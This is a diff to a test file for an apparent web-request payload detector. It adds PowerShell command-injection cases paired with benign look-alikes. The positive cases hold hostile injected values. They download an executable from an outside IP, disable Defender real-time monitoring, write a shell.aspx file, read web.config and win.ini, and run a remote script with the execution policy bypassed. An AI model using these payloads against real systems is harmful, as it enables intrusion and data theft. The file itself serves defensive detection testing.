@@ -701,6 +701,42 @@ const NOT_POWERSHELL_CRADLE: Case[] = [
   ["body:json", JSON.stringify({ script: "$r = Invoke-WebRequest -Uri 'https://api.example.com/v1/items'; $r.StatusCode" })],
   ["body:json", JSON.stringify({ text: "Use iex (short for Invoke-Expression) with care; DownloadString(url) returns a string." })],
 ];
+// A PowerShell cmdlet where a command stands (pscmdlet.ts, cmdinject.ts), or PowerShell told to run
+// one or to run scripts unsigned (lolbin.ts): rce.
+const POWERSHELL_CMDLET: Case[] = [
+  ["query", "cmd=" + encodeURIComponent(";Get-ChildItem C:\\")],
+  ["query", "x=" + encodeURIComponent("| Get-Content C:\\Windows\\win.ini")],
+  ["body:form", "host=" + encodeURIComponent("127.0.0.1 | Get-WmiObject Win32_Process")],
+  ["body:json", JSON.stringify({ host: "127.0.0.1; Stop-Process -Name explorer" })],
+  ["query", "x=" + encodeURIComponent("& Invoke-WebRequest http://198.51.100.7/x -OutFile x.exe")],
+  ["body:json", JSON.stringify({ host: "8.8.8.8 && Set-MpPreference -DisableRealtimeMonitoring $true" })],
+  // The value's own command line.
+  ["body:json", JSON.stringify({ cmd: "Set-Content -Path shell.aspx -Value x" })],
+  ["query", "x=" + encodeURIComponent("Start-Process calc.exe")],
+  ["body:form", "c=" + encodeURIComponent("Get-Content C:\\inetpub\\wwwroot\\web.config")],
+  ["body:json", JSON.stringify({ cmd: "Remove-Item $env:TEMP\\* -Recurse" })],
+  // PowerShell given a line to run, or its execution policy lifted.
+  ["query", "c=" + encodeURIComponent('powershell -c "Start-Process calc"')],
+  ["body:json", JSON.stringify({ cmd: 'powershell.exe -Command "& {Get-Process}"' })],
+  ["body:form", "c=" + encodeURIComponent("pwsh -command whoami")],
+  ["query", "c=" + encodeURIComponent("powershell -ep bypass .\\run.ps1")],
+  ["body:json", JSON.stringify({ cmd: "powershell -ExecutionPolicy Unrestricted -File \\\\198.51.100.7\\s\\x.ps1" })],
+  ["query", "c=" + encodeURIComponent('powershell "Get-ChildItem C:\\"')],
+];
+const NOT_POWERSHELL_CMDLET: Case[] = [
+  // Prose that names a cmdlet, a name inside a word, a slug, a heading, PowerShell's everyday options.
+  ["body:json", JSON.stringify({ text: "Get-Process is slow on this server, any idea why?" })],
+  ["body:json", JSON.stringify({ name: "cloud-logs-test-connection-20260513T161627", method: "DELETE" })],
+  ["body:json", JSON.stringify({ slug: "get-started-with-azure-functions" })],
+  ["body:json", JSON.stringify({ title: "New-Item: create files and folders" })],
+  ["query", "q=" + encodeURIComponent("Where-Object vs Select-Object")],
+  ["query", "q=" + encodeURIComponent("powershell is great for automation")],
+  ["query", "q=" + encodeURIComponent("powershell -command is the option you want")],
+  ["query", "q=" + encodeURIComponent("powershell -ExecutionPolicy RemoteSigned")],
+  ["body:json", JSON.stringify({ text: "Fish & Get-Chips" })],
+  // A script posted whole (a gist's file), not a command line.
+  ["body:json", JSON.stringify({ files: { "clean.ps1": { content: "Get-ChildItem -Path $env:TEMP -Recurse |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } |\n  Remove-Item -Force\n" } } })],
+];
 // PHP's shell operator in a PHP tag (phptag.ts): rce.
 const PHP_TAG_SHELL: Case[] = [
   ["query", "x=" + encodeURIComponent("<?= `ls` ?>")],
@@ -1093,6 +1129,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
   ["powershell-cradle", "rce", POWERSHELL_CRADLE, NOT_POWERSHELL_CRADLE],
+  ["powershell-cmdlet", "rce", POWERSHELL_CMDLET, NOT_POWERSHELL_CMDLET],
   ["php-tag-shell", "rce", PHP_TAG_SHELL, NOT_PHP_TAG_SHELL],
   ["vbscript-call", "xss", VBSCRIPT_CALL, NOT_VBSCRIPT_CALL],
   ["storage-theft", "xss", STORAGE_THEFT, NOT_STORAGE_THEFT],
